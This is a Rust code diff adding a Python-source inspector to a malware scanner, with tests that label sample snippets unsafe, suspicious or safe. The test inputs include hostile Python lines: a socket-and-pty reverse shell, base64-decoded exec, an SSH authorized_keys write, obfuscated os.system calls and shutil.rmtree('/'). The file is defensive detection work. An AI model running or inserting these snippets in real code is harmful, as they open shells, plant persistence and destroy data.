@@ -1,9 +1,117 @@
+use std::collections::BTreeSet;
+
 use sealyard_core::ReadAt;
+use sealyard_formats::python::{MAX_SOURCE, Source};
+use sealyard_scan::FactKind;
 
 use super::text;
 use crate::context::Context;
+use crate::rules::python::{self, Artifact};
+
+/// Sources inside each other that are read: texts that a source runs as code.
+const MAX_DEPTH: usize = 4;
+/// Modules that are told.
+const MAX_TOLD: usize = 50;
 
 /// Python source.
 pub(super) fn inspect(data: &dyn ReadAt, context: &mut Context) -> &'static str {
-    text::inspect_as("python", data, context)
+    let kind = text::inspect_as("python", data, context);
+    if kind == "python"
+        && let Some(bytes) = context.read(data, MAX_SOURCE as u64)
+    {
+        source(&String::from_utf8_lossy(&bytes), false, context);
+    }
+    kind
+}
+
+/// Looks at a source wherever it was found.
+pub(super) fn source(text: &str, is_notebook: bool, context: &mut Context) {
+    nested(text, is_notebook, 0, context);
+}
+
+fn nested(text: &str, is_notebook: bool, depth: usize, context: &mut Context) {
+    if !context.step(text.len() as u64 / 4 + 1) {
+        return;
+    }
+    let source = match Source::read(text) {
+        Ok(source) => source,
+        Err(error) => return context.miss(format!("the Python source can't be read: {error}")),
+    };
+    python::run(&Artifact { source: &source, is_notebook }, context.sink());
+    if depth == 0 {
+        let modules: BTreeSet<&str> = source.imports.iter().filter_map(|import| import.module.split('.').next()).collect();
+        for module in modules.into_iter().filter(|module| !module.is_empty()).take(MAX_TOLD) {
+            context.fact(FactKind::Dependency, module, serde_json::Value::Null);
+        }
+    }
+    if depth < MAX_DEPTH {
+        let runs = |path: &str| matches!(path, "exec" | "eval" | "compile" | "timeit.timeit" | "cProfile.run");
+        for call in source.calls.iter().filter(|call| runs(&call.path)) {
+            for inner in call.texts.iter().filter(|text| !matches!(text.as_str(), "exec" | "eval" | "single")) {
+                // What is no source there is no harm.
+                if Source::read(inner).is_ok() {
+                    context.inside("text", |context| nested(inner, is_notebook, depth + 1, context));
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use sealyard_core::Verdict;
+
+    use super::*;
+
+    fn verdict(text: &str) -> Verdict {
+        let mut context = Context::new("modeling.py");
+        let kind = crate::inspect::content(&text.as_bytes(), &mut context);
+        context.finish("modeling.py", kind).verdict
+    }
+
+    #[test]
+    fn what_runs_at_once_is_unsafe() {
+        for text in [
+            "import os\nos.system('id')\n",
+            "import subprocess as s\nclass M:\n    def __init__(self):\n        s.Popen(['id'])\n",
+            "import torch\nexec(open('x').read())\n",
+            "import torch\nexec('import os; os.system(\"id\")')\n",
+            "import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n",
+            "import socket, os, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n",
+            "import urllib.request\nurllib.request.urlopen('http://example.org', data=b'')\n",
+            "import ctypes\nctypes.CDLL('./libx.so')\n",
+            "import pickle, base64\ndef f():\n    return pickle.loads(base64.b64decode('gARO'))\n",
+            "import os\ndef f():\n    open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')\n",
+            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+            "import torch\n__import__('os').system('id')\n",
+            "import shutil\nshutil.rmtree('/')\n",
+        ] {
+            assert_eq!(verdict(text), Verdict::Unsafe, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_waits_is_suspicious() {
+        for text in [
+            "import os\ndef helper():\n    os.system('id')\n",
+            "import x\ndef f(name):\n    return eval('self.' + name)\n",
+            "import ctypes\ndef f():\n    ctypes.CDLL('x')\n",
+            "import socket\ndef f():\n    socket.socket()\n",
+        ] {
+            assert_eq!(verdict(text), Verdict::Suspicious, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_models_do_is_safe() {
+        for text in [
+            "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.eval()\n        self.w = torch.load('x')\n",
+            "import os\nimport requests\nfrom PIL import Image\n\ndef image(path):\n    return Image.open(requests.get(path, stream=True).raw)\n\npath = os.path.join(os.environ.get('HOME', ''), 'x')\n",
+            "import re, json, math, importlib.util\n_flash = importlib.util.find_spec('flash_attn') is not None\nPATTERN = re.compile('a')\nwith open('x.json') as f:\n    x = json.load(f)\n",
+            "import pickle\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n",
+            "import os\n# os.system('id')\ntext = 'os.system(1)'\n",
+        ] {
+            assert_eq!(verdict(text), Verdict::Safe, "{text}");
+        }
+    }
 }
